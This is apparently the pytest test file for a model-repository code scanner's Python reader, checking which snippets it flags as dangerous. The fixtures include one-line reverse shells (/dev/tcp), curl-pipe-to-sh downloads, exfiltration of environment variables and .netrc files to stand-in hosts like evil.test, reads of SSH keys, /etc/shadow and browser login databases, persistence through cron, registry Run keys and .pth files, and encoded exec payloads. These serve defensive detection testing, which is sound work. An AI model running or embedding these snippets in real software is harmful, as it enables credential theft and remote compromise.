from __future__ import annotations

from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from modelscan.budget import Budget, Limits
from modelscan.engine.catalogue import load
from modelscan.engine.evaluate import Engine
from modelscan.errors import BudgetError, ReadError
from modelscan.formats.python_code import source
from modelscan.formats.python_code.reader import PythonReader
from modelscan.formats.reader import Glimpse
from modelscan.vocabulary.artifact import BytesArtifact
from modelscan.vocabulary.coverage import Coverage
from modelscan.vocabulary.fact import CodeBehaviour, CodeSource
from modelscan.vocabulary.rule import SEVERITIES
from tests.forge import python_code

ENGINE = Engine(load().rules.values())


def _items(text: str | bytes, name: str = "modeling_x.py", member: str | None = None) -> list[Any]:
    data = text if isinstance(text, bytes) else text.encode()
    return list(PythonReader().read(BytesArtifact(name, data, member=member), Budget()))


def _found(text: str) -> list[tuple[str, str, str]]:
    return [
        (fact.behaviour, fact.call, fact.when)
        for fact in _items(text)
        if isinstance(fact, CodeBehaviour)
    ]


def _judged(text: str) -> list[tuple[str, str]]:
    return [(finding.severity, finding.rule) for finding in ENGINE.evaluate(_items(text))]


def _fails(text: str) -> bool:
    return any(
        SEVERITIES.index(finding.severity) >= SEVERITIES.index("high")
        and finding.confidence != "low"
        for finding in ENGINE.evaluate(_items(text))
    )


@pytest.mark.parametrize("name", python_code.BENIGN)
def test_ordinary_code_passes_the_default_policy(name: str) -> None:
    text = python_code.BENIGN[name]
    assert not _fails(text)
    assert len([rule for severity, rule in _judged(text) if severity != "info"]) <= 3


@pytest.mark.parametrize(
    "text",
    [
        "class T:\n    def _tokenize(self, t):\n        requests.post('https://evil.test', data=t)",
        "class T:\n    def forward(self, t):\n        socket.create_connection(('a.test', 80)).send(t)",
        "class T:\n    def encode(self, t):\n        socket.socket().sendto(t, ('evil.test', 53))",
    ],
)
def test_a_model_that_sends_what_it_is_given_fails(text: str) -> None:
    assert _fails("import requests, socket\n" + text)


@pytest.mark.parametrize(
    "text",
    [
        "import requests, httpx\nS = requests.Session()\nC = httpx.AsyncClient()",
        "from omegaconf import OmegaConf\nOmegaConf.register_new_resolver('eval', eval)",
        "import socket\nclass M:\n    def __init__(self):\n        socket.socket().bind(('', 0))",
        "import socket as s\nclass M:\n    def forward(self):\n        s.gethostbyname(s.gethostname())",
        "import shutil\nshutil.rmtree('./cache')",
        "import importlib.util as u\nassert u.find_spec('flash_attn') is None",
        "import urllib.request as u\nclass P:\n    def __call__(self, url):\n        u.urlopen(u.Request(url))",
        "import gradio as gr, os\ndef stop():\n    os.system('killall x')\ngr.Button('x').click(stop)",
    ],
)
def test_what_only_looks_like_it_passes(text: str) -> None:
    assert not _fails(text)


def test_ordinary_code_has_nothing_above_info() -> None:
    for name in ("modeling", "tokenization", "handler", "registry"):
        assert _judged(python_code.BENIGN[name]) == [("info", "python-source-present")], name


@pytest.mark.parametrize(
    ("text", "behaviour"),
    [
        ("import os\nos.system('id')", "starts-process"),
        ("import subprocess as s\ns.Popen('./x', shell=True)", "starts-process"),
        ("import asyncio\nasyncio.run(asyncio.create_subprocess_shell('./x'))", "starts-process"),
        ("import ctypes\nctypes.CDLL(None).system(b'id')", "starts-process"),
        ("exec(b'import os; os.system(1)')", "starts-process"),
        ("import os\nos.execvp('sh', ['sh', '-c', 'id'])", "starts-process"),
        ("exec(input())", "runs-code"),
        ("import runpy\nrunpy.run_path('LICENSE')", "runs-code"),
        (
            "from importlib import util as u\nu.module_from_spec(u.find_spec('o' + 's')).system('id')",
            "starts-process",
        ),
        ("import sh\nsh.bash('-c', 'id')", "starts-process"),
        ("from plumbum import local\nlocal['id']()", "starts-process"),
        ("import asyncio\nasyncio.get_event_loop().subprocess_shell(None, 'id')", "starts-process"),
        ("import netrc\nnetrc.netrc().authenticators('x')", "reads-secrets"),
        ("import keyring\nkeyring.get_password('a', 'b')", "reads-secrets"),
        ("import sqlite3\nsqlite3.connect('/home/a/chrome/Default/Login Data')", "reads-secrets"),
        ("open('/var/run/secrets/kubernetes.io/serviceaccount/token').read()", "reads-secrets"),
        ("from pynput import keyboard\nkeyboard.Listener(on_press=print).start()", "reads-secrets"),
        (
            "import site, os\nopen(os.path.join(site.getsitepackages()[0], 'x.pth'), 'w')",
            "writes-outside",
        ),
        (
            "import winreg as w\nw.SetValueEx(w.HKEY_CURRENT_USER, 'Run', 0, 1, 'x')",
            "writes-outside",
        ),
        ("import shutil\nshutil.rmtree('/home')", "writes-outside"),
        ("import sys\nsys.path.insert(0, 'model.bin')", "changes-import-path"),
        ("import os\nos.environ['PYTHONBREAKPOINT'] = 'os.system'", "changes-environment"),
        ("import socket, os\nsocket.gethostbyname(os.environ['X'] + '.evil.test')", "sends-data"),
        ("import socket\ns = socket.socket()\ns.connect(('evil.test', 1))", "sends-data"),
        ("from requests import Session as S\nS().post('https://evil.test', json={})", "sends-data"),
        (
            "import urllib.request as u\nu.urlopen(u.Request('https://evil.test', data=b''))",
            "sends-data",
        ),
        (
            "import requests\nexec(requests.Session().get('https://evil.test').text)",
            "runs-download",
        ),
        ("import runpy\nrunpy.run_path('vocab.txt')", "runs-code"),
        ("exec(open('tokenizer.model').read())", "runs-code"),
        ("import importlib.util as u\nu.spec_from_file_location('x', d + '/a.bin')", "runs-code"),
        (
            "import ctypes as c\nc.CFUNCTYPE(c.c_int)(c.addressof(x))()",
            "runs-code",
        ),
        ("import imp\nimp.load_source('x', './x.so')", "loads-native-code"),
        (
            "import importlib.util as u, gdown\nu.spec_from_file_location('x', gdown.download(U))",
            "runs-download",
        ),
        ("import os\nexec(\"os.system('id')\")", "starts-process"),
        ("import shutil\nshutil.rmtree('/etc/x')", "writes-outside"),
        (
            "import winreg as w\nw.CreateKey(w.X, r'Software\\CurrentVersion\\Run')",
            "writes-outside",
        ),
        ("from ctypes import *\nwindll.kernel32.VirtualAlloc(0, 1, 2, 3)", "runs-code"),
        ("import ctypes\nctypes.CDLL('libc.so.6').mprotect(1, 2, 7)", "runs-code"),
        ("x = 'import os'\nx += '; os.system(1)'\nexec(x)", "runs-code"),
        (python_code.encoded(), "encoded-payload"),
        ("import base64\ncode = base64.b64decode(DATA)\nexec(code)", "encoded-payload"),
        ("exec(''.join(chr(c ^ 5) for c in DATA))", "encoded-payload"),
        ("exec(bytes([105, 109, 112]))", "encoded-payload"),
        ("exec(bytes(c ^ 1 for c in DATA))", "encoded-payload"),
        ("import zlib\nc = zlib.decompress(DATA)[4:]\nexec(c)", "encoded-payload"),
        ("import base64\nd = lambda s: base64.b64decode(s)\nexec(d(DATA))", "encoded-payload"),
        ("import base64\nclass A:\n    c = base64.b64decode(DATA)\nexec(A.c)", "encoded-payload"),
        ("exec(')(metsys'[::-1])", "encoded-payload"),
        ("import pickle, base64\npickle.loads(base64.b64decode('gASVIA=='))", "encoded-payload"),
        (
            "import marshal, types\ntypes.FunctionType(marshal.loads(DATA), globals())()",
            "encoded-payload",
        ),
        ("__import__(''.join(chr(c ^ 1) for c in DATA))", "encoded-payload"),
        ("import os, base64\nos.system(base64.b64decode(DATA))", "encoded-payload"),
        ("import os\nos.system('echo aWQ= | base64 -d | sh')", "encoded-payload"),
        ("import requests\nexec(requests.get('http://x.example').text)", "runs-download"),
        (
            "import urllib.request as u\nc = u.urlopen('x').read()\neval(compile(c, '', 'exec'))",
            "runs-download",
        ),
        ("import os\nos.system('curl -s http://x.example | sh')", "runs-download"),
        ("import os\nos.system('wget http://x -O /tmp/a && chmod +x /tmp/a')", "runs-download"),
        ("import os\nos.system('bash -c \"$(curl http://x)\"')", "runs-download"),
        ("import os\nos.system('mshta http://x')", "runs-download"),
        ("import os, requests\nos.system(requests.get('http://x').text)", "runs-download"),
        ("import socket, os\ns = socket.socket()\nos.dup2(s.fileno(), 0)", "remote-shell"),
        (
            "import subprocess\nsubprocess.call('bash -i >& /dev/tcp/1.2.3.4/4 0>&1', shell=True)",
            "remote-shell",
        ),
        ("import urllib.request\nurllib.request.urlopen('http://x.example/ping')", "network"),
        ("import socket\nsocket.create_connection(('x', 53)).send(b'')", "sends-data"),
        ("import requests\nrequests.get('http://x', data='a').json()", "sends-data"),
        ("import os, requests\nrequests.post('http://x', json=dict(os.environ))", "sends-secrets"),
        (
            "import os, http.client as h\nh.HTTPSConnection('x').request('P', '/', {**os.environ})",
            "sends-secrets",
        ),
        (
            "import requests as r\np = '/home/someone/.netrc'\nr.put('http://x', open(p).read())",
            "sends-secrets",
        ),
        ("open('/etc/shadow')", "reads-secrets"),
        (
            "from pathlib import Path\n(Path.home() / '.ssh' / 'id_rsa').read_text()",
            "reads-secrets",
        ),
        ("import os\nos.listdir(os.path.join(os.environ['HOME'], '.ssh'))", "reads-secrets"),
        ("import os, shutil\nshutil.copy(os.getenv('HOME') + '/.netrc', '/tmp')", "reads-secrets"),
        ("import os\nos.system('cat ~/.aws/credentials')", "reads-secrets"),
        ("open('/home/someone/.bashrc', 'a').write('x')", "writes-outside"),
        ("import os\nos.system('crontab /tmp/x')", "writes-outside"),
        ("import shutil\nshutil.copy('x', '/etc/cron.d/x')", "writes-outside"),
        (
            "from pathlib import Path\nPath('~').joinpath('.ssh', 'x').resolve().write_text('y')",
            "writes-outside",
        ),
        (
            "import site, os\nopen(os.path.join(site.USER_SITE, 'sitecustomize.py'), 'w')",
            "writes-outside",
        ),
        ("import ctypes\nctypes.CDLL('./evil.so')", "loads-native-code"),
        (
            "import ctypes, os\nctypes.cdll.LoadLibrary(os.path.dirname(__file__) + '/k.so')",
            "loads-native-code",
        ),
        ("import torch\ntorch.ops.load_library(PATH)", "loads-native-code"),
        ("import os\nos.system('pip install x')", "installs-packages"),
        (
            "import subprocess as s, sys\ns.run([sys.executable, '-m', 'pip', 'install', 'x'])",
            "installs-packages",
        ),
        ("import pip\npip.main(['install', 'x'])", "installs-packages"),
        ("import os\ngetattr(os, input())('id')", "computed-name"),
        ("__import__(input()).system('id')", "computed-name"),
        ("().__class__.__base__.__subclasses__()[104]", "computed-name"),
        ("object.__subclasses__()", "computed-name"),
        ("().__class__.__mro__[1].__subclasses__()", "computed-name"),
    ],
)
def test_what_runs_on_import_and_is_dangerous_fails_the_default_policy(
    text: str, behaviour: str
) -> None:
    found = _found(text)
    assert (behaviour, "import") in {(each[0], each[2]) for each in found}
    assert _fails(text)


@pytest.mark.parametrize(
    ("text", "behaviour"),
    [
        ("import torch\ntorch.load('x.pt')", "deserialises"),
        ("import torch\ntorch.load('x.pt', weights_only=False)", "deserialises"),
        ("import pickle\npickle.Unpickler(open('x', 'rb')).load()", "deserialises"),
        ("import numpy as np\nnp.load('x.npy', allow_pickle=True)", "deserialises"),
        ("import yaml\nyaml.load(open('x'), Loader=yaml.UnsafeLoader)", "deserialises"),
        ("import torch\ntorch.hub.load('acme/x', 'y')", "loads-remote-code"),
        ("import ctypes\nctypes.CDLL('libcudart.so')", "loads-system-library"),
        (
            "import ctypes.util as u, ctypes\nctypes.CDLL(u.find_library('c'))",
            "loads-system-library",
        ),
        (
            "from torch.utils.cpp_extension import load\nload(name='x', sources=['x.cpp'])",
            "compiles-native-code",
        ),
        ("import os\nos.popen('nvidia-smi -L')", "queries-system"),
        ("import subprocess\nsubprocess.run(['gpg', '--version'])", "queries-system"),
        ("exec(open('version.py').read())", "runs-file"),
        ("import importlib.util as u\nu.spec_from_file_location('x', p)", "runs-file"),
        ("import runpy\nrunpy.run_path(d + '/train.py')", "runs-file"),
        ("import keras\nkeras.config.enable_unsafe_deserialization()", "deserialises"),
        ("import gdown\ngdown.download(URL)", "downloads-data"),
        ("import requests, json\nx = json.loads(requests.get('http://x').text)", "downloads-data"),
        ("import requests\nx = requests.get('http://x').json()", "downloads-data"),
    ],
)
def test_what_is_usual_is_said_and_passes(text: str, behaviour: str) -> None:
    assert behaviour in {each[0] for each in _found(text)}
    assert not _fails(text)


@pytest.mark.parametrize(
    "text",
    [
        "import torch\ntorch.load('x.pt', weights_only=True)",
        "import numpy as np\nnp.load('x.npy')",
        "import yaml\nyaml.load(open('x'), Loader=yaml.SafeLoader)",
        "import torch\ntorch.hub.load('.', 'x', source='local')",
        "import os\nprint(os.environ.get('HOME'), os.path.exists('/etc/ssh'))",
        "x = eval('1 + 1')",
        "exec('y = 2')",
        "import ctypes\nctypes.CFUNCTYPE(ctypes.c_int)(callback)",
        "isinstance(f, (exec, eval))\nhasattr(exec, 'x')",
        "def eval(x): return x\neval(input())",
        "from .os import system\nsystem('id')",
        "import os\nos.dup2(1, 2)",
        "import ctypes\nctypes.c_int(3)\nctypes.sizeof(ctypes.c_int)",
        "class A: pass\nA.__subclasses__()",
        "import subprocess\ntry: pass\nexcept subprocess.CalledProcessError as error: print(error)",
        "open('vocab.txt')\nopen('out.txt', 'w')",
    ],
)
def test_what_is_harmless_is_not_said(text: str) -> None:
    assert _found(text) == []


@pytest.mark.parametrize(
    ("text", "when"),
    [
        ("def f(x=os.system('id')): pass", "import"),
        ("def f(x: os.system('id')): pass", "import"),
        ("def f() -> os.system('id'): pass", "import"),
        ("class A:\n    os.system('id')", "import"),
        ("class A(os.popen('id')): pass", "import"),
        ("def d(f):\n    os.system('id')\n    return f\n@d\ndef g(): pass", "import"),
        ("@os.system\ndef g(): pass", "import"),
        ("def f():\n    os.system('id')\nf()", "import"),
        ("def f():\n    os.system('id')\ndef g():\n    f()\ng()", "import"),
        ("f = lambda c: os.system(c)\nf('id')", "import"),
        ("def f():\n    def g(): os.system('id')\n    return g\nf()()", "import"),
        ("class A:\n    def __init__(self): os.system('id')\nA()", "import"),
        ("class A:\n    def run(self): os.system('id')\na = A()\na.run()", "import"),
        ("class A:\n    def run(self): os.system('id')\nclass B(A): pass\nB().run()", "import"),
        (
            "class A(type):\n    def __new__(m, *a): os.system('id')\nclass B(metaclass=A): 1",
            "import",
        ),
        ("class A:\n    def __init_subclass__(c): os.system('id')\nclass B(A): pass", "import"),
        ("def __getattr__(name): os.system(name)", "import"),
        (
            "import threading\ndef f(): os.system('id')\nthreading.Thread(target=f).start()",
            "import",
        ),
        ("import threading\nthreading.Thread(target=os.system, args=('id',))", "import"),
        ("import sys\ndef f(*a): os.system('id')\nsys.excepthook = f", "import"),
        ("def f(): os.system('id')\nprint({'a': f})", "import"),
        ("class A:\n    __getitem__ = os.system", "import"),
        ("if __name__ != '__main__':\n    os.system('id')", "import"),
        ("if __name__ == '__main__':\n    pass\nelse:\n    os.system('id')", "import"),
        ("try:\n    1\nfinally:\n    os.system('id')", "import"),
        ("for c in ['id']:\n    os.system(c)", "import"),
        ("with open('x') as f:\n    os.system('id')", "import"),
        ("match 1:\n    case 1:\n        os.system('id')", "import"),
        ("[os.system(c) for c in 'ab']", "import"),
        ("class M:\n    def __init__(self): os.system('id')", "instantiation"),
        ("class M:\n    def forward(self): os.system('id')", "instantiation"),
        (
            "class M:\n    def __init__(self): self.go()\n    def go(self): os.system(1)",
            "instantiation",
        ),
        ("def f(): os.system('id')\nclass M:\n    def __init__(self): f()", "instantiation"),
        ("class M:\n    @property\n    def x(self): os.system('id')", "instantiation"),
        ("import a\nclass M:\n    @a.property\n    def x(self): os.system(1)", "instantiation"),
        ("class M:\n    def from_pretrained(cls): os.system('id')", "instantiation"),
        ("class A:\n    def __call__(self): os.system('id')\na = A()", "instantiation"),
        ("class A:\n    def __call__(self): os.system('id')\na = A()\na()", "import"),
        ("class A:\n    def __init__(s): os.system(1)\n    def m(cls): cls()", "instantiation"),
        ("class M:\n    def helper(self): os.system('id')", "call"),
        ("def f(): os.system('id')", "call"),
        ("if __name__ == '__main__':\n    os.system('id')", "call"),
        ("if '__main__' == __name__ and 1:\n    os.system('id')", "call"),
        ("def main(): os.system('id')\nif __name__ == '__main__':\n    main()", "call"),
        ("import typing\nif typing.TYPE_CHECKING:\n    os.system('id')", "call"),
        ("from typing import TYPE_CHECKING\nif TYPE_CHECKING:\n    os.system('id')", "call"),
        ("class M:\n    def f(self): os.system('id')\n    def go(self): self.x = self.f", "call"),
    ],
)
def test_when_it_happens(text: str, when: str) -> None:
    found = _found("import os\n" + text)
    assert {(each[0], each[2]) for each in found} == {("starts-process", when)}


def test_a_fact_says_where_and_with_what() -> None:
    (fact,) = [f for f in _items("import os\n\nos.system('id')") if isinstance(f, CodeBehaviour)]
    assert (fact.location.file, fact.location.line, fact.argument) == ("modeling_x.py", 3, "id")


def test_the_source_itself_is_a_fact() -> None:
    fact = _items("import os, torch.nn\nfrom . import x\nfrom .y import z\n")[0]
    assert isinstance(fact, CodeSource)
    assert (fact.kind, fact.lines, fact.imports) == ("module", 3, (".", "os", "torch"))
    assert _items("")[0].lines == 0
    assert _items("x = 1")[0].lines == 1


def test_literal_code_is_looked_into_a_few_levels_deep() -> None:
    text = "import os; os.system('id')"
    for level in range(5):
        kinds = {each[0] for each in _found(text)}
        assert kinds == {"starts-process" if level < 4 else "runs-code"}, level
        text = f"exec({text!r})"
    assert _found("def f():\n    exec(\"import os\\nos.system('id')\")")[0][2] == "call"
    assert _found("exec('import os\\ndef f(): os.system(1)')")[0][2] == "call"
    assert _found("exec('not python at all')")[0][0] == "runs-code"


def test_much_literal_code_is_not_looked_into() -> None:
    text = "x = 1  # " + "a" * 600_000
    assert _found(f"exec({text!r})\nexec({text!r})") == [("runs-code", "exec", "import")]


def test_text_in_another_order_than_it_is_shown() -> None:
    (fact,) = [f for f in _items("x = 1\n# \u202e abc\n") if isinstance(f, CodeBehaviour)]
    assert (fact.behaviour, fact.location.line) == ("hidden-text", 2)
    assert [f for f in _items("# é ü 漢字\n") if isinstance(f, CodeBehaviour)] == []


@pytest.mark.parametrize(
    "data",
    [
        b"def f(:",
        b"print 'old'",
        b"x = 1\0",
        b"\xff\xfe",
        b"# coding: nowhere\n",
        b"# coding: rot13\nvzcbeg bf\n",
        b"# coding: ascii\n\xe9",
        b"(" * 100_000,
        b"-" * 100_000 + b"1",
        b"x" + b".x" * 100_000,
        b"".join(b" " * level + b"if a:\n" for level in range(300)),
    ],
)
def test_what_does_not_parse_is_an_error_and_still_said(data: bytes) -> None:
    found: list[Any] = []
    with pytest.raises(ReadError):
        found.extend(PythonReader().read(BytesArtifact("x.py", data), Budget()))


def test_a_module_that_does_not_parse_is_there_all_the_same() -> None:
    reading = PythonReader().read(BytesArtifact("x.py", b"def f(:"), Budget())
    assert isinstance(next(iter(reading)), CodeSource)


@pytest.mark.parametrize(
    "text",
    [
        "# -*- coding: latin-1 -*-\nimport os\nos.system('\xe9')\n".encode("latin-1"),
        b"\xef\xbb\xbfimport os\nos.system('id')\n",
        b"# coding: utf-7\nimport os\n+AG8-s.system('id')\n",
        b"import os\r\nos.system('\\q')\r\n",
        "import os\n\uff4fs.system('id')\n".encode(),
    ],
)
def test_encodings_and_escapes_are_pythons(text: bytes) -> None:
    assert [f.behaviour for f in _items(text) if isinstance(f, CodeBehaviour)] == ["starts-process"]


def test_what_is_too_long_is_a_gap() -> None:
    with pytest.raises(BudgetError):
        _items(b"#" * (source.MAX_SOURCE + 1))
    with pytest.raises(BudgetError):
        _items("a\n" * (source.MAX_WORDS + 1))
    with pytest.raises(BudgetError):
        source.parse("#" * (source.MAX_SOURCE + 1), Budget())
    with pytest.raises(BudgetError):
        source.parse("x = 1\n" * 10, Budget(Limits(steps=1)))


def test_torchscript_code_is_no_module() -> None:
    member = "model/code/__torch__/net.py"
    assert _items("class M(Module):\n  __parameters__ = []", "m.pt", member) == []
    (gap,) = _items("def f(self: (", "m.pt", member)
    assert isinstance(gap, Coverage)
    assert (gap.status, gap.needed) == ("unsupported", True)
    with pytest.raises(BudgetError):
        _items("a\n" * (source.MAX_WORDS + 1), "m.pt", member)


@pytest.mark.parametrize(
    ("name", "data", "expected"),
    [
        ("modeling_x.py", b"", True),
        ("X.PYW", b"", True),
        ("train", b"#!/usr/bin/env python3\n", True),
        ("train", b"#!/bin/sh\n", False),
        ("evil.pth", b"import os; os.system('id')\n", True),
        ("evil.pth", b"./src\nimport os; os.system('id')\n", True),
        ("paths.pth", b"./src\n/opt/imports\n", False),
        ("model.pth", b"PK\x03\x04", False),
        ("model.pth", b"import \0", False),
        ("notes.txt", b"import os\n", False),
    ],
)
def test_what_is_recognised(name: str, data: bytes, expected: bool) -> None:
    assert PythonReader().recognises(Glimpse(BytesArtifact(name, data))) is expected
    assert PythonReader().format == "python source"


@given(st.binary(max_size=200))
@settings(max_examples=200, deadline=None)
def test_any_bytes_end_in_facts_or_a_read_error(data: bytes) -> None:
    try:
        _items(data)
    except ReadError:
        return


_PIECES = st.lists(
    st.sampled_from(
        [
            "import os as o\n", "from os import *\n", "x = o.system\n", "x('id')\n", "exec(y)\n",
            "y = 'a' + chr(98) + f'{x}'\n", "def f(a, b=x, *c, d=1, **e): return a(b)\n", "f(f)\n",
            "class C(D, metaclass=E):\n    z = x\n    def g(self): self.h = x; return self\n",
            "C().g().h('id')\n", "y += y * 3\n", "y = '%s' % (y, x)\n", "a, *b = y, x, 1\n",
            "d = {'k': x, **y}\nd['k'](d)\n", "y = [c for c in y if c][::-1]\n", "y = y[0:2][1]\n",
            "g = lambda q=x: (yield)\n", "globals()['x'] = y\n", "D = C\n", "class D(C): pass\n",
            "with open(y) as f, x(1) as g: pass\n", "global x\n", "del x\n", "y = getattr(o, y)\n",
            "try:\n    x()\nexcept E as x:\n    raise\n", "y = '{}{a}'.format(y, a=x)\n",
            "x.y = f\n",
        ]
    ),
    max_size=14,
)  # fmt: skip


@given(_PIECES)
@settings(max_examples=200, deadline=None)
def test_any_module_is_analysed(pieces: list[str]) -> None:
    assert isinstance(_items("".join(pieces))[0], CodeSource)
